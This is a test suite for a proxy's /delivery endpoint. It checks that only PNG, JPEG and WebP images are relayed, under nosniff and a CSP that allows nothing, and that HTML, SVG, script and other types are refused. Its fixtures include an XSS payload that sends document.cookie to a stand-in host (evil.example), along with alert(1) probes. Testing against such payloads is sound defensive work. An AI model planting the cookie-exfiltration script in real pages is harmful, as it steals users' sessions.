// Issue #12 item 2: /delivery needs no token and answers from the proxy's own origin with CORS '*', so what it
// relays must be inert bytes: only PNG, JPEG and WebP, each answer with X-Content-Type-Options: nosniff and a
// Content-Security-Policy of default-src 'none'; anything else refused. A HEAD stays a HEAD upstream (nothing is
// downloaded). In-process (app.request) and inside workerd, against a scripted upstream that records every request.
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  startNodeProxy,
  startWorkerdProxyAsync,
  type ProxyUnderTest,
  type UpstreamAnswer,
} from '../security/support/proxy-under-test';

const SAMPLE = 'https://delivery-eu1.bfl.ai/results/t/sample.png?se=1&sig=2';
const DELIVERY = `/delivery?u=${encodeURIComponent(SAMPLE)}`;
const IMAGE = new Uint8Array(4096).map((_, i) => (i * 37) & 255);
const HTML = '<!doctype html><script>fetch("https://evil.example/?"+document.cookie)</script>';

let answerNext: UpstreamAnswer = () => new Response(IMAGE, { headers: { 'Content-Type': 'image/png' } });

const runtimes: [string, () => Promise<ProxyUnderTest>][] = [
  [
    'Node (app.request)',
    async () => startNodeProxy({ upstream: 'https://api.bfl.ai', answer: (call) => answerNext(call) }),
  ],
  ['workerd', () => startWorkerdProxyAsync({ upstream: 'https://api.bfl.ai', answer: (call) => answerNext(call) })],
];

function expectInert(res: Response): void {
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  expect(res.headers.get('content-security-policy')).toMatch(/^default-src 'none'(;|$)/);
  expect(res.headers.get('access-control-allow-origin')).toBe('*');
}

describe.each(runtimes)('deliveries on %s', (_runtime, startAsync) => {
  let proxy: ProxyUnderTest;
  beforeAll(async () => {
    proxy = await startAsync();
  }, 120_000);
  afterAll(async () => {
    await proxy?.closeAsync();
  });

  it.each([
    ['image/png', 'image/png'],
    ['image/jpeg', 'image/jpeg'],
    ['image/webp', 'image/webp'],
    ['IMAGE/PNG; charset=binary', 'image/png'],
  ])(
    'relays %s as exactly the image bytes, typed %s, nosniff and under a CSP that allows nothing',
    async (upstreamType, relayedType) => {
      answerNext = () =>
        new Response(IMAGE, { headers: { 'Content-Type': upstreamType, 'Content-Length': String(IMAGE.length) } });
      const res = await proxy.requestAsync(DELIVERY);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe(relayedType);
      expectInert(res);
      const bytes = new Uint8Array(await res.arrayBuffer());
      expect(Buffer.from(bytes).equals(Buffer.from(IMAGE))).toBe(true);
      const length = res.headers.get('content-length');
      if (length !== null) expect(Number(length)).toBe(IMAGE.length);
    },
  );

  it.each([
    ['text/html', HTML],
    ['text/html; charset=utf-8', HTML],
    ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['application/xhtml+xml', HTML],
    ['application/javascript', 'alert(1)'],
    ['application/octet-stream', HTML],
    ['text/plain', HTML],
    ['', HTML],
  ])('refuses a delivery typed "%s" with 502 and passes none of it on', async (type, body) => {
    answerNext = () => new Response(body, { headers: type === '' ? {} : { 'Content-Type': type } });
    const res = await proxy.requestAsync(DELIVERY);
    expect(res.status).toBe(502);
    expectInert(res);
    expect(res.headers.get('content-type')).toBe('application/json');
    const text = await res.text();
    expect(text).toMatch(/not a PNG, JPEG or WebP image/);
    expect(text).not.toContain('<');
  });

  it('relays an expired link as its status without the upstream body, so the client still reports it as expired', async () => {
    answerNext = () =>
      new Response('<?xml version="1.0"?><Error><Code>AuthenticationFailed</Code></Error>', {
        status: 403,
        headers: { 'Content-Type': 'application/xml' },
      });
    const res = await proxy.requestAsync(DELIVERY);
    expect(res.status).toBe(403);
    expectInert(res);
    expect(await res.text()).not.toContain('AuthenticationFailed');
  });

  it('refuses a content encoding it cannot relay as the image bytes on both runtimes', async () => {
    answerNext = () => new Response(IMAGE, { headers: { 'Content-Type': 'image/png', 'Content-Encoding': 'br' } });
    const res = await proxy.requestAsync(DELIVERY);
    expect(res.status).toBe(502);
    expect(await res.text()).toMatch(/content encoding/);
  });

  it('answers a HEAD with a HEAD upstream: the image headers, and nothing downloaded', async () => {
    answerNext = (call) =>
      call.method === 'HEAD'
        ? new Response(null, { headers: { 'Content-Type': 'image/png', 'Content-Length': String(IMAGE.length) } })
        : new Response(IMAGE, { headers: { 'Content-Type': 'image/png' } });
    const before = proxy.calls.length;
    const res = await proxy.requestAsync(DELIVERY, { method: 'HEAD' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/png');
    expectInert(res);
    expect(proxy.calls.slice(before).map((c) => c.method)).toEqual(['HEAD']);
  });
});

// workerd's fetch decodes gzip itself but keeps the compressed Content-Length (a Node proxy is checked between real
// sockets in node-server.test.ts; an in-process stub decodes nothing, so it has no case here).
describe('a gzip-encoded delivery on workerd', () => {
  let proxy: ProxyUnderTest;
  beforeAll(async () => {
    proxy = await startWorkerdProxyAsync({ upstream: 'https://api.bfl.ai', answer: (call) => answerNext(call) });
  }, 120_000);
  afterAll(async () => {
    await proxy?.closeAsync();
  });

  it('reaches the client as exactly the image bytes, with no stale length or encoding', async () => {
    const gzipped = gzipSync(IMAGE);
    answerNext = () =>
      new Response(gzipped, {
        headers: { 'Content-Type': 'image/png', 'Content-Encoding': 'gzip', 'Content-Length': String(gzipped.length) },
      });
    const res = await proxy.requestAsync(DELIVERY);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-encoding')).toBeNull();
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect(Buffer.from(bytes).equals(Buffer.from(IMAGE))).toBe(true);
    const length = res.headers.get('content-length');
    if (length !== null) expect(Number(length)).toBe(IMAGE.length);
  });
});
